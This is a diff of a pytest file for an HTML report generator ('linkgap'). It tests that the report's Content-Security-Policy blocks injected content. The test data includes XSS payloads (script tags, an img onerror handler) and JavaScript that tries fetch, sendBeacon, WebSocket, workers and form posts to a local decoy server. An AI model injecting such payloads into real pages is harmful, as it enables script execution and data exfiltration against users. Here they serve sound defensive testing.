@@ -6,6 +6,8 @@ import json
 import re
 import subprocess
 import sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
 
 import nbformat
 import numpy as np
@@ -14,6 +16,7 @@ import pytest
 from axe_playwright_python.sync_playwright import Axe
 
 import linkgap as lg
+from linkgap.cells import is_page
 from linkgap.cli import main
 
 HOSTILE = "<img src=x onerror=window.pwned=1></script><script>window.pwned=1</script>&quot;"
@@ -174,8 +177,8 @@ def written(value):
 
 
 NOT_SHOWN = {
-    "finding": {"role"},
-    "best": {"likelihood", "rivals_linked", "authority", "metric", "anchor", "relation", "tactic"},
+    "finding": set(),
+    "best": {"likelihood", "rivals_linked", "authority", "metric", "anchor", "relation", "tactic", "page", "status"},
     "worth": {"method", "curve", "measured"},
     "pictures": {"map", "rivals", "present", "sites", "tactic"},
     "files": set(),
@@ -211,8 +214,8 @@ def test_the_json_summary_is_what_the_page_shows(page, prospects, backtest, tmp_
         assert [each for each in kept if not any(form in text for form in written(each))] == [], name
     rows = page.locator("section#list tbody tr")
     assert rows.count() == len(summary["sections"]["list"]["rows"]) == 50
-    cells = [text.split("\t") for text in page.locator("section#list tbody").inner_text().splitlines() if text]
-    del cells
+    links = page.locator(".lgr-best a").evaluate_all("(all) => all.map((each) => each.href)")
+    assert links == [row["page"] for row in summary["sections"]["best"]["rows"] if is_page(row["page"])]
     shown = rows.nth(7).locator("td").all_text_contents()
     row = summary["sections"]["list"]["rows"][7]
     wanted = [str(row["rank"]), row["domain"], f"{row['priority']:.1f}", str(row["rivals_linked"])]
@@ -294,44 +297,86 @@ def test_hostile_text_is_inert_in_a_notebook(page, tmp_path):
 
 TRIES = """
 <script>window.pwned = "inline script"</script>
-<script src="http://127.0.0.1:9/a.js"></script>
-<img src="http://127.0.0.1:9/a.png" onerror="window.pwned = 'handler'">
-<link rel="stylesheet" href="http://127.0.0.1:9/a.css">
-<iframe src="http://127.0.0.1:9/"></iframe>
-<object data="http://127.0.0.1:9/a.swf"></object>
-<video src="http://127.0.0.1:9/a.mp4"></video>
+<script src="http://ELSEWHERE/a.js"></script>
+<img src="http://ELSEWHERE/a.png" onerror="window.pwned = 'handler'">
+<link rel="stylesheet" href="http://ELSEWHERE/a.css">
+<iframe src="http://ELSEWHERE/"></iframe>
+<object data="http://ELSEWHERE/a.swf"></object>
+<video src="http://ELSEWHERE/a.mp4"></video>
 <p id="styled" style="position: fixed">x</p>
-<form id="form" action="http://127.0.0.1:9/"></form>
+<iframe name="aside"></iframe>
+<form id="form" target="aside" action="http://ELSEWHERE/form"></form>
 """
 TRIES_OF_SCRIPT = """async () => {
-  const tried = { fetch: () => fetch("http://127.0.0.1:9/"), beacon: () => navigator.sendBeacon("http://127.0.0.1:9/", "x"),
-    socket: () => new WebSocket("ws://127.0.0.1:9/"), events: () => new EventSource("http://127.0.0.1:9/"),
-    worker: () => new Worker("http://127.0.0.1:9/a.js"), form: () => document.getElementById("form").submit(),
-    module: () => import("http://127.0.0.1:9/a.js") };
+  const tried = { fetch: () => fetch("http://ELSEWHERE/"), beacon: () => navigator.sendBeacon("http://ELSEWHERE/", "x"),
+    socket: () => new WebSocket("ws://ELSEWHERE/"), events: () => new EventSource("http://ELSEWHERE/"),
+    worker: () => new Worker("http://ELSEWHERE/a.js"), module: () => import("http://ELSEWHERE/a.js"),
+    form: () => document.getElementById("form").submit() };
   for (const attempt of Object.values(tried)) try { await attempt(); } catch {}
   await new Promise((resolve) => setTimeout(resolve, 300));
 }"""
 
 
-def test_a_page_that_tries_is_blocked_by_its_policy(chromium, prospects, tmp_path):
-    path = lg.build_report(prospects, tmp_path / "gap.html")
-    path.write_text(path.read_text("utf-8").replace("<main>", f"<main>{TRIES}"), encoding="utf-8")
+@pytest.fixture
+def elsewhere():
+    """A server that must not be reached: its address, and whoever came."""
+    came = []
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self):
+            came.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def do_POST(self):
+            self.do_GET()
+
+        def log_message(self, *_):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield f"127.0.0.1:{server.server_port}", came
+    server.shutdown()
+    server.server_close()
+
+
+def try_everything(chromium, path, text, address):
+    """Put what tries to get out into a report, and return the directives that stopped something."""
+    path.write_text(text, encoding="utf-8")
     context = chromium.new_context()
     page = context.new_page()
-    asked, blocked = [], []
-    page.on("request", lambda request: asked.append(request.url))
-    page.expose_function("blocked", blocked.append)
+    blocked = []
+
+    def note(directive):
+        blocked.append(directive)
+
+    page.expose_function("blocked", note)
     page.add_init_script(
-        "addEventListener('securitypolicyviolation', (event) => window.blocked(event.effectiveDirective))"
+        "addEventListener('securitypolicyviolation', (stop) => window.blocked(stop.effectiveDirective))"
     )
     opened(page, path)
-    page.evaluate(TRIES_OF_SCRIPT)
-    assert page.evaluate("window.pwned") is None
-    assert page.locator("#styled").evaluate("(element) => getComputedStyle(element).position") == "static"
-    assert {url.partition(":")[0] for url in asked} <= {"file", "blob", "data"}
-    wanted = {"script-src-elem", "img-src", "style-src-elem", "frame-src", "object-src", "media-src", "style-src-attr"}
-    assert set(blocked) >= wanted | {"connect-src", "form-action"}
+    page.evaluate(TRIES_OF_SCRIPT.replace("ELSEWHERE", address))
+    pwned = page.evaluate("window.pwned")
+    position = page.evaluate("getComputedStyle(document.getElementById('styled')).position")
     context.close()
+    return set(blocked), pwned, position
+
+
+def test_a_page_that_tries_is_blocked_by_its_policy(chromium, prospects, tmp_path, elsewhere):
+    address, came = elsewhere
+    report = lg.build_report(prospects, tmp_path / "gap.html").read_text("utf-8")
+    trying = report.replace("<main>", f"<main>{TRIES}".replace("ELSEWHERE", address))
+    blocked, pwned, position = try_everything(chromium, tmp_path / "a.html", trying, address)
+    assert (came, pwned, position) == ([], None, "static")
+    wanted = {"script-src-elem", "img-src", "style-src-elem", "frame-src", "object-src", "media-src", "style-src-attr"}
+    assert blocked >= wanted | {"connect-src", "form-action"}
+    # Without the policy all this would have worked, so the test can fail.
+    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", trying)
+    blocked, pwned, position = try_everything(chromium, tmp_path / "b.html", bare, address)
+    assert len(came) >= 8
+    assert (blocked, position) == (set(), "fixed")
+    assert pwned is not None
 
 
 # How it looks, and to whom.
@@ -347,15 +392,28 @@ def serious_faults(page, where=None):
     ]
 
 
+def doubtful():
+    """Prospects of which none is proven, and outreach is under way with some."""
+    rows = [(site, f"site-{place}.example") for place in range(40) for site in ("one.example", "two.example")]
+    rows.append(("mine.example", "friend.example"))
+    frame = pd.DataFrame(rows, columns=["site", "source_domain"])
+    links = lg.read_links(frame, complete=False)
+    return lg.rank_prospects(lg.find_gap(links, site="mine.example"))
+
+
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_axe_finds_no_serious_fault(chromium, prospects, backtest, tmp_path, scheme):
-    book = lg.open_outreach(tmp_path / "outreach.sqlite", site="oakdesk.example")
-    book.set(prospects.frame["domain"][:7], status="contacted", note="wrote to Ann")
+@pytest.mark.parametrize("which", ["sample", "doubtful"])
+def test_axe_finds_no_serious_fault(chromium, prospects, backtest, tmp_path, scheme, which):
+    prospects, backtest = (prospects, backtest) if which == "sample" else (doubtful(), None)
+    book = lg.open_outreach(tmp_path / "outreach.sqlite", site=prospects.gap.site)
+    for place, status in enumerate(("shortlisted", "contacted", "replied", "won", "rejected")):
+        book.set(prospects.frame["domain"][place], status=status, note="wrote to Ann")
     path = lg.build_report(prospects, tmp_path / "gap.html", backtest=backtest, outreach=book, intro="Hello.")
     context = chromium.new_context(viewport={"width": 1400, "height": 900}, color_scheme=scheme, bypass_csp=True)
     page = opened(context.new_page(), path)
     page.locator(".lg-row:visible").nth(3).click()
-    page.get_by_label("Authority, least").fill("60")
+    for place in range(8):
+        page.locator(".lg-row:visible input[type=checkbox]").nth(place).click()
     page.locator("details").evaluate_all("(all) => all.forEach((each) => { each.open = true; })")
     page.wait_for_timeout(300)
     assert serious_faults(page) == []
